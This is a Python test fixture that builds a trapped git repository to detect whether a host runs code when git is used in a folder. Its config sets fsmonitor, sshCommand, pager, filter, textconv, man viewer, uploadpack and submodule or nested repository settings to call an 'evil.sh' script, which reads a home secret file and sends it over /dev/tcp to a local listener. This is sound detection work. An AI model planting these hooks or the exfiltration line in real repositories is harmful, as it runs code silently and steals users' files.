"""A repository whose settings and files start a program wherever git can be made to, and what shows that one started.

The program marks a file outside of the folder, reads a file of the person's home, and sends that to a listener on this
machine. A test fills a folder with it, lets a host work there, and looks whether anything was sprung.
"""

from __future__ import annotations

import os
import shlex
import shutil
import socketserver
import subprocess
import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path
from typing import Final

END_SECONDS: Final = 30.0
HOME_WORD: Final = "WORD-OF-THE-HOME"
TRACKED: Final = "tracked.txt"
_POLL_SECONDS: Final = 0.05
_MAX_BYTES: Final = 1_000
_ALONE: Final = {"PATH": os.defpath, "HOME": "/", "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
_WHO: Final = ("-c", "user.name=Ann", "-c", "user.email=ann@example.org", "-c", "protocol.file.allow=always")
_PROGRAM: Final = """\
#!/bin/bash
echo "$1" >> {canary}
exec 3<>/dev/tcp/127.0.0.1/{port} && echo "$1 $(cat {secret})" >&3
exit 1
"""
# Each word is the place that started the program; `git` asks the two servers for what is missing from the history.
_SETTINGS: Final = """\
[core]
	fsmonitor = {program} fsmonitor
	sshCommand = {program} ssh
	pager = {program} pager
[filter "evil"]
	clean = {program} filter
[diff "evil"]
	textconv = {program} textconv
[man]
	viewer = evil
[man "evil"]
	cmd = {program} man
[extensions]
	partialClone = near
[remote "near"]
	url = {origin}
	promisor = true
	partialclonefilter = blob:none
	uploadpack = {program} uploadpack
[remote "far"]
	url = ssh://127.0.0.1/x
	promisor = true
"""
_INNER: Final = "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = {program} {name}\n"
SPRINGS: Final = frozenset(
    {"fsmonitor", "ssh", "filter", "textconv", "man", "uploadpack", "submodule", "nested", "plain-names"}
)
"""What starts the program, when git is run plainly in all places of a filled folder."""


class Trap:
    """One folder that can be filled, and what became of it."""

    def __init__(self, folder: Path, home: Path, project: Path, port: int) -> None:
        self.project = project
        self.heard: list[str] = []
        self._folder = folder / "trap"
        self._folder.mkdir()
        self._canary = self._folder / "canary"
        self._canary.touch()
        secret = home / "secret.txt"
        secret.write_text(f"{HOME_WORD}\n", encoding="utf-8")
        self.program = self._folder / "evil.sh"
        text = _PROGRAM.format(canary=self._canary, port=port, secret=secret)
        self.program.write_text(text, encoding="utf-8")
        self.program.chmod(0o755)

    @property
    def sprung(self) -> frozenset[str]:
        """What has started the program."""
        return frozenset(self._canary.read_text(encoding="utf-8").split())

    def settings(self, name: str) -> str:
        """Return settings of a repository, in which the program is started under a name."""
        return _INNER.format(program=self.program, name=name)

    def plain_settings(self, name: str) -> str:
        """Return the same for a repository that is not called `.git`, and works on the folder above it."""
        return f"{self.settings(name)}\tbare = false\n\tworktree = ..\n"

    def clone(self) -> None:
        """Make the folder a clean clone, with a history and a submodule."""
        origin = self._folder / "origin"
        for folder in (origin, self.project):
            git(self._folder, "init", "-q", str(folder))
        git(origin, "commit", "-q", "--allow-empty", "-m", "first")
        for text in ("was\n", "is\n"):
            (self.project / TRACKED).write_text(text, encoding="utf-8")
            git(self.project, "add", TRACKED)
            git(self.project, "commit", "-q", "-m", f"it {text}")
        git(self.project, "submodule", "--quiet", "add", str(origin), "sub")
        git(self.project, "commit", "-q", "-m", "with a submodule")

    def fill(self) -> None:
        """Make the folder a repository that others filled: settings, those of a submodule, and further repositories."""
        self.clone()
        (self.project / ".gitattributes").write_text("*.txt filter=evil diff=evil\n", encoding="utf-8")
        (self.project / TRACKED).write_text("IS\n", encoding="utf-8")
        missing = git(self.project, "rev-parse", f"HEAD~2:{TRACKED}").strip()
        (self.project / ".git" / "objects" / missing[:2] / missing[2:]).unlink()
        self.set_program(self.project / ".git", _SETTINGS.format(program=self.program, origin=self._folder / "origin"))
        self.set_program(self.project / ".git" / "modules" / "sub", self.settings("submodule"))
        git(self.project, "init", "-q", "nested")
        self.set_program(self.project / "nested" / ".git", self.settings("nested"))
        git(self.project, "init", "-q", "--bare", "plain")
        self.set_program(self.project / "plain", self.plain_settings("plain-names"))

    def set_program(self, repository: Path, settings: str) -> None:
        """Add settings to those that a repository has."""
        with (repository / "config").open("a", encoding="utf-8") as file:
            file.write(settings)

    def run_git_plainly(self) -> None:
        """Do what a person, or a host that starts, does in every part of a folder, however git ends."""
        lines = ("git status", "git log -p", "git diff", "git status --help")
        for place in (".", "sub", "nested", "new", "plain", "evil"):
            if (self.project / place).is_dir():
                for line in lines:
                    _run(shlex.split(line), self.project / place)


@contextmanager
def set_trap(folder: Path, home: Path, project: Path) -> Iterator[Trap]:
    """A trap, whose listener listens for the block."""
    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), socketserver.BaseRequestHandler) as server:
        trap = Trap(folder, home, project, server.server_address[1])

        class Noting(socketserver.StreamRequestHandler):
            """Notes what somebody says who connects, also when that is nothing."""

            def handle(self) -> None:
                trap.heard.append(self.rfile.readline(_MAX_BYTES).decode(errors="replace").strip())

        server.RequestHandlerClass = Noting
        server.daemon_threads = True
        thread = threading.Thread(target=server.serve_forever, args=(_POLL_SECONDS,), daemon=True)
        thread.start()
        try:
            yield trap
        finally:
            server.shutdown()
            thread.join(END_SECONDS)


def git(folder: Path, *words: str) -> str:
    """Run git for the test itself, and return what it printed; it must succeed."""
    done = _run(["git", *_WHO, *words], folder)
    assert done.returncode == 0, done.stderr
    return done.stdout


def _run(words: Sequence[str], folder: Path) -> subprocess.CompletedProcess[str]:
    program = shutil.which(words[0])
    assert program
    return subprocess.run(
        [program, *words[1:]],
        cwd=folder,
        env=_ALONE,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        check=False,
        text=True,
        timeout=END_SECONDS,
    )
